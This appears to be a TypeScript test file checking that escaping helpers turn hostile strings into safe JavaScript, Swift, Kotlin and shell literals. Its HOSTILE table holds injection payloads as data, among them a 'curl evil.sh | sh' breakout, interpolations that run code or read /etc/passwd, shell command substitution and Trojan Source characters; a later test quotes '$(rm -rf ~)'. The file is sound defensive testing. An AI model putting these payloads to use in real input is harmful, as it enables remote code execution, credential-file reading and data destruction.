import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { jsString, kotlinString, shellWord, swiftString } from './code-literals';

/** Values a co-owner could store as a key id or alg: each must come back unchanged from its literal. */
const HOSTILE: Record<string, string> = {
  'newline + code': "k1');\nrequire('child_process').execSync('curl evil.sh | sh');//",
  'closing quotes': `a"b'c\`d`,
  backslashes: 'a\\b\\\\c\\',
  'trailing backslash before quote': 'x\\',
  'JS and Kotlin ${} interpolation': '${process.exit(1)}${java.lang.Runtime.getRuntime().exec("x")}',
  'Kotlin/shell $var': '$HOME $userToken',
  'Swift \\(…) interpolation': '\\(try! String(contentsOfFile: "/etc/passwd"))',
  'shell command substitution': '$(touch /tmp/pwned) `id`',
  'CR, tab, form feed, backspace, vertical tab': 'a\rb\tc\fd\be\vf',
  'U+2028 / U+2029': 'a\u2028b\u2029c',
  NUL: 'a\0b\x001',
  'ESC sequence ending bracketed paste, Ctrl-C': 'a\x1b[201~b\x03c\x7f',
  'bidi override (Trojan Source)': 'admin\u202E\u2066// x\u2069\u202C',
  'non-ASCII text, an emoji, a tag character': 'Schlüssel 🔑 \u{E0041}',
  'plain id': 'door-key_1',
  empty: '',
};

/** Every literal sticks to one line: nothing in it can end a comment or a statement early. */
const oneLine = (literal: string) => expect(literal).not.toMatch(/[\n\r\u2028\u2029\u0085]/u);

describe('jsString', () => {
  for (const [name, value] of Object.entries(HOSTILE)) {
    it(`evaluates to the value: ${name}`, () => {
      const literal = jsString(value);
      oneLine(literal);
      expect(literal).not.toMatch(/[\p{Cc}\p{Cf}]/u);
      // The literal placed in a module-like context as the samples place it, then run.
      expect(new Function(`'use strict'; return ${literal};`)()).toBe(value);
      expect(new Function(`'use strict'; return [${literal}, 'after'];`)()).toEqual([value, 'after']);
    });
  }
  it('keeps a lone surrogate', () => {
    expect(new Function(`return ${jsString('a\uD800b')}`)()).toBe('a\uD800b');
  });
});

/**
 * The Swift and Kotlin lexers' rules for a double-quoted single-line string literal (Swift Language
 * Reference "String Literals"; Kotlin grammar "Escaped characters", "String templates"), strict: a raw
 * line break, an unknown escape, an interpolation or an unescaped quote is an error.
 */
function evalSwift(literal: string): string {
  expect(literal.startsWith('"') && literal.endsWith('"') && literal.length >= 2).toBe(true);
  const body = literal.slice(1, -1);
  let out = '';
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (c === '"') throw new Error(`unescaped quote at ${i}`);
    if (c === '\n' || c === '\r') throw new Error('raw line break');
    if (c !== '\\') {
      out += c;
      continue;
    }
    const e = body[++i];
    const simple: Record<string, string> = { '0': '\0', '\\': '\\', t: '\t', n: '\n', r: '\r', '"': '"', "'": "'" };
    if (e !== undefined && e in simple) out += simple[e];
    else if (e === 'u') {
      const m = /^\{([0-9a-fA-F]{1,8})\}/.exec(body.slice(i + 1));
      if (!m) throw new Error('bad \\u');
      const cp = parseInt(m[1]!, 16);
      if (cp >= 0xd800 && cp <= 0xdfff) throw new Error('surrogate scalar');
      out += String.fromCodePoint(cp);
      i += m[0].length;
    } else if (e === '(') throw new Error('interpolation');
    else throw new Error(`unknown escape \\${e}`);
  }
  return out;
}

function evalKotlin(literal: string): string {
  expect(literal.startsWith('"') && literal.endsWith('"') && literal.length >= 2).toBe(true);
  const body = literal.slice(1, -1);
  let out = '';
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (c === '"') throw new Error(`unescaped quote at ${i}`);
    if (c === '\n' || c === '\r') throw new Error('raw line break');
    if (c === '$' && /^[\p{L}_{`]/u.test(body.slice(i + 1))) throw new Error('template');
    if (c !== '\\') {
      out += c;
      continue;
    }
    const e = body[++i];
    const simple: Record<string, string> = { t: '\t', b: '\b', n: '\n', r: '\r', "'": "'", '"': '"', '\\': '\\', $: '$' };
    if (e !== undefined && e in simple) out += simple[e];
    else if (e === 'u') {
      const m = /^[0-9a-fA-F]{4}/.exec(body.slice(i + 1));
      if (!m) throw new Error('bad \\u');
      out += String.fromCharCode(parseInt(m[0], 16));
      i += 4;
    } else throw new Error(`unknown escape \\${e}`);
  }
  return out;
}

describe('swiftString', () => {
  for (const [name, value] of Object.entries(HOSTILE)) {
    it(`evaluates to the value: ${name}`, () => {
      const literal = swiftString(value);
      oneLine(literal);
      expect(evalSwift(literal)).toBe(value);
    });
  }
  it('a lone surrogate, which no Swift String holds, becomes U+FFFD', () => {
    expect(evalSwift(swiftString('a\uD800'))).toBe('a\uFFFD');
  });
  it('the test lexer refuses what Swift refuses', () => {
    expect(() => evalSwift('"\\(x)"')).toThrow('interpolation');
    expect(() => evalSwift('"\\u0000"')).toThrow('bad');
    expect(() => evalSwift('"\\f"')).toThrow('unknown escape');
    expect(() => evalSwift('"a"b"')).toThrow('unescaped quote');
  });
});

describe('kotlinString', () => {
  for (const [name, value] of Object.entries(HOSTILE)) {
    it(`evaluates to the value: ${name}`, () => {
      const literal = kotlinString(value);
      oneLine(literal);
      expect(evalKotlin(literal)).toBe(value);
    });
  }
  it('keeps a lone surrogate', () => {
    expect(evalKotlin(kotlinString('a\uD800'))).toBe('a\uD800');
  });
  it('the test lexer refuses what Kotlin refuses', () => {
    expect(() => evalKotlin('"${x}"')).toThrow('template');
    expect(() => evalKotlin('"$x"')).toThrow('template');
    expect(() => evalKotlin('"\\f"')).toThrow('unknown escape');
    expect(() => evalKotlin('"\\u{41}"')).toThrow('bad');
  });
});

describe('shellWord', () => {
  const shells = ['sh', 'bash'];
  for (const [name, value] of Object.entries(HOSTILE)) {
    it(`expands to the value in ${shells.join(' and ')}: ${name}`, () => {
      const word = shellWord(value);
      // Nothing a terminal would act on is pasted raw: only printable text, spaces and line feeds.
      expect(word).not.toMatch(/[^\P{C}\n]|[\u2028\u2029]/u);
      // NUL cannot be part of a shell word or an environment value: it is the one thing left out.
      const expected = Buffer.from(value.replace(/\0/g, ''), 'utf8');
      for (const shell of shells) {
        const printed = execFileSync(shell, ['-c', `printf %s ${word}`]);
        expect(printed.equals(expected), `${shell}: ${JSON.stringify(printed.toString())}`).toBe(true);
        // As an environment assignment, the way the unlock command uses it.
        const env = execFileSync(shell, ['-c', `V=${word} \\\n  sh -c 'printf %s "$V"'`]);
        expect(env.equals(expected), `${shell} env`).toBe(true);
      }
    });
  }
  it('leaves plainly safe words unquoted', () => {
    expect(shellWord('https://auth.acme.test/x')).toBe('https://auth.acme.test/x');
    expect(shellWord('$(rm -rf ~)')).toBe("'$(rm -rf ~)'");
  });
});
